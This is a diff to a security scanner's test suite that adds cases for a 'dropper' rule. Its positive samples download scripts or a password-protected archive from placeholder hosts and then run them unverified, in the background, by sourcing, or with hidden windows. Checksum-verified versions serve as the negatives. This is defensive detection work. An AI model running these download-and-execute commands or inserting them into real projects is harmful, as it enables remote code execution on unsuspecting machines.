@@ -228,6 +228,16 @@ describeRuleCases('dropper', [
       'with urllib.request.urlopen(src) as r:\n    out.write_bytes(r.read())\nsubprocess.run(["pdftotext", str(out)], check=True)\n',
   },
   {
+    // A password-protected archive (content hidden from scanners) unpacked and its program started
+    // without a window (`creationflags=0x08000000`, CREATE_NO_WINDOW by number).
+    id: 'SG-DROPPER-010',
+    file: 'tools/Setup.pyt',
+    positive:
+      'urllib.request.urlretrieve(PKG_URL, zpath)\nwith zipfile.ZipFile(zpath) as zf:\n    zf.extractall(dest, pwd=b"k3y")\nsubprocess.Popen([exe, "/S"], creationflags=0x08000000)\n',
+    negative:
+      'urllib.request.urlretrieve(PKG_URL, zpath)\nwith zipfile.ZipFile(zpath) as zf:\n    zf.extractall(dest)\nsubprocess.run(["ogr2ogr", "-f", "GPKG", out, dest], check=True)\n',
+  },
+  {
     id: 'SG-DROPPER-010',
     file: 'scripts/Collect.ps1',
     positive:
@@ -871,6 +881,34 @@ grep -i "^$1," "$db" | cut -d, -f2
     negative:
       '#!/bin/sh\nwget -qO ./agent https://cdn.agent-files.example/agent\necho "$SUM  ./agent" | sha256sum -c -\nchmod 755 ./agent\n./agent --daemon\n',
   },
+  {
+    id: 'SG-DROPPER-022',
+    file: 'scripts/refresh.sh',
+    // Never made executable: the saved file is handed to an interpreter, in the background.
+    positive:
+      '#!/usr/bin/env bash\nBASE="https://hooks.plugin-cache.example/v2"\nsync_plugin() {\n  curl -fsSL "$BASE/$1/hook.sh" -o "$TMPDIR/hook.sh"\n  bash "$TMPDIR/hook.sh" "$1" >/dev/null 2>&1 &\n}\nsync_plugin reports\n',
+    // The download is data the interpreter reads, not the script it runs.
+    negative:
+      '#!/usr/bin/env bash\nBASE="https://hooks.plugin-cache.example/v2"\nsync_plugin() {\n  curl -fsSL "$BASE/$1/rows.csv" -o "$TMPDIR/rows.csv"\n  python3 ./load.py "$TMPDIR/rows.csv"\n}\nsync_plugin reports\n',
+  },
+  {
+    id: 'SG-DROPPER-022',
+    file: 'setup.sh',
+    positive: '#!/bin/sh\nwget -qO env.sh https://cfg.fleet-tools.example/env.sh\n. ./env.sh\n',
+    // Checked against a published checksum before it is sourced.
+    negative:
+      '#!/bin/sh\nwget -qO env.sh https://cfg.fleet-tools.example/env.sh\necho "$SUM  env.sh" | sha256sum -c -\n. ./env.sh\n',
+  },
+  {
+    // An Ansible role: the download (get_url) and the run (command) are two tasks.
+    id: 'SG-DROPPER-022',
+    file: 'roles/agent/tasks/main.yml',
+    positive:
+      '- name: Fetch agent installer\n  ansible.builtin.get_url:\n    url: "https://dl.agent-builds.example/install.sh"\n    dest: /tmp/agent-install.sh\n- name: Install agent\n  ansible.builtin.command: bash /tmp/agent-install.sh --quiet\n',
+    // get_url's checksum fails the task on a mismatch: a verified download.
+    negative:
+      '- name: Fetch agent installer\n  ansible.builtin.get_url:\n    url: "https://dl.agent-builds.example/install.sh"\n    dest: /tmp/agent-install.sh\n    checksum: "sha256:https://dl.agent-builds.example/install.sh.sha256"\n- name: Install agent\n  ansible.builtin.command: bash /tmp/agent-install.sh --quiet\n',
+  },
 ]);
 
 describe('SG-DROPPER-022 severity', () => {
@@ -900,9 +938,21 @@ describe('adversarial split download-and-run scripts', () => {
     ['chmod lists', 'curl -o a u\n' + 'chmod +x a a a a a a '.repeat(MiB / 21)],
     ['runs', 'curl -o "$a" u\nchmod +x "$a"\n' + '$(nohup then '.repeat(MiB / 13)],
     ['variables', 'chmod +x "$a"\ncurl -o "$a" ' + '$v'.repeat(MiB / 2)],
+    ['interpreter runs', 'curl -o "$a" u\n' + 'bash -x -e -u '.repeat(MiB / 14)],
+    ['sourced runs', 'curl -o a u\n' + '; . . . '.repeat(MiB / 8)],
   ];
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     expectScansQuickly([text], 'scripts/get.sh');
+  });
+});
+
+describe('adversarial archive unpacks and hidden starts', () => {
+  const MiB = 1024 * 1024;
+  it.each([
+    ['unpacks', 'urlopen(u)\nsubprocess.Popen(x)\n' + 'z.extractall(d, a'.repeat(MiB / 17)],
+    ['creation flags', 'urlopen(u)\nsubprocess.Popen(x)\n' + 'creationflags = 0x0'.repeat(MiB / 19)],
+  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'tools/Setup.pyt');
   });
 });
 
